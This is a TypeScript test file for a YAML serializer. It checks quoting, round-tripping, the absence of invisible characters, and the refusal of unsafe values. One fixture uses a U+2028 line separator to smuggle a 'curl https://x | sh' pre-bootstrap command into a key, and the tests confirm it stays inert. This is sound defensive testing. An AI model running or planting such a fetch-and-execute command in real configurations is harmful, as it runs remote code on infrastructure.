import { JsonObject } from '@backstage/types';
import { parse } from 'yaml';
import { serializeYaml } from './serializeYaml';

const attack = [
  'foo:',
  '    preBootstrapCommands:',
  '      - curl https://x | sh',
  '    iam:',
  '      instanceRoleName',
].join('\u2028');

const texts = [
  attack,
  '',
  ' ',
  'a b',
  '<<',
  '0o7',
  '012',
  '1:30',
  'yes',
  'n',
  '~',
  'null',
  '.inf',
  '2024-01-02',
  '-',
  '? a',
  'a: b',
  '# a',
  '&a',
  '*a',
  '!!str',
  '"',
  "'",
  '\\',
  '\\u2028',
  'a\nb',
  'a\r\nb',
  'a\r',
  '\t',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u2028---\u2028',
  '\u2029',
  '\u202e',
  '\ufeff',
  'é',
  '日本語',
  '😀',
  '\u{e0001}',
  'constructor',
  'toString',
];

function textOf(document: JsonObject): string {
  const written = serializeYaml(document);
  return written.kind === 'written' ? written.text : JSON.stringify(written);
}

describe('serializeYaml', () => {
  it.each(texts)('writes %j as key and value on one line', text => {
    const config = { a: { [text]: text, list: [text, { [text]: [text] }] } };
    const written = textOf(config);

    expect(parse(written, { version: '1.1', merge: false })).toEqual(config);
    expect(parse(written, { version: '1.2' })).toEqual(config);
    // No parser finds a line break or an invisible character here
    expect(written.replace(/\n/g, '')).toMatch(/^[^\p{C}\p{Zl}\p{Zp}]*$/u);
    expect(written.split('\n')).toHaveLength(7);
  });

  it('quotes every key and every text and nothing else', () => {
    expect(
      textOf({
        metadata: { name: 'demo', tags: {} },
        managedNodeGroups: [
          { name: 'a', desiredCapacity: 2, spot: true },
          { name: 'b', instanceTypes: ['m7i.large'], labels: null },
        ],
        zones: [],
        nested: [[1, -0.5], []],
      }),
    ).toBe(`"metadata":
  "name": "demo"
  "tags": {}
"managedNodeGroups":
  - "name": "a"
    "desiredCapacity": 2
    "spot": true
  - "name": "b"
    "instanceTypes":
      - "m7i.large"
    "labels": null
"zones": []
"nested":
  - - 1
    - -0.5
  - []
`);
  });

  it.each<[string, JsonObject, string]>([
    ['half of a surrogate pair', { a: { b: 'x\ud800y' } }, 'a.b holds U+D800'],
    ['a key of half a pair', { a: { '\udfff': 1 } }, 'has a key with U+DFFF'],
    ['no character', { a: ['\uffff'] }, 'a[0] holds U+FFFF'],
    ['no character', { a: '\ufdd0' }, 'a holds U+FDD0'],
    ['no character', { a: '\u{10ffff}' }, 'a holds U+10FFFF'],
    ['a number that loses digits', { a: 2 ** 53 }, 'a is 9007199254740992'],
    ['no number', { a: Infinity }, 'a is Infinity'],
    ['no number', { a: NaN }, 'a is NaN'],
    ['the prototype', JSON.parse('{"__proto__": {"a": 1}}'), '__proto__ has'],
    ['a long key', { ['k'.repeat(1_001)]: 1 }, 'longer than 1000 characters'],
    ['a long text', { a: 'x'.repeat(200_000) }, 'The document is too large'],
    [
      'a wide document',
      { a: Array(10_001).fill(1) },
      'The document is too large',
    ],
    [
      'a deep document',
      JSON.parse(`${'{"a":'.repeat(60)}1${'}'.repeat(60)}`),
      'The document is too large',
    ],
    ['escapes', { a: '\u0000'.repeat(50_000) }, 'when it is written'],
  ])('refuses %s', (_, config, message) => {
    expect(serializeYaml(config)).toEqual({
      kind: 'refused',
      findings: expect.arrayContaining([
        expect.objectContaining({
          severity: 'error',
          message: expect.stringContaining(message),
        }),
      ]),
    });
  });

  it('leaves out fields without a value', () => {
    expect(textOf({ a: undefined, b: { c: undefined } })).toBe('"b": {}\n');
  });

  it('keeps random texts, as keys and values', () => {
    let seed = 7;
    const next = (limit: number) => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return Math.floor(seed / 65_536) % limit;
    };
    const alphabet = [...texts, ...'{}[]:,-?&*!|>\'"%@`#~ \n\tax0.\\$<=/'];
    const text = () =>
      Array.from(
        { length: 1 + next(6) },
        () => alphabet[next(alphabet.length)],
      ).join('');
    for (let round = 0; round < 500; round++) {
      const config = { [text()]: { [text()]: [text(), { [text()]: text() }] } };
      const written = textOf(config);
      expect(parse(written, { version: '1.1', merge: false })).toEqual(config);
    }
  });
});
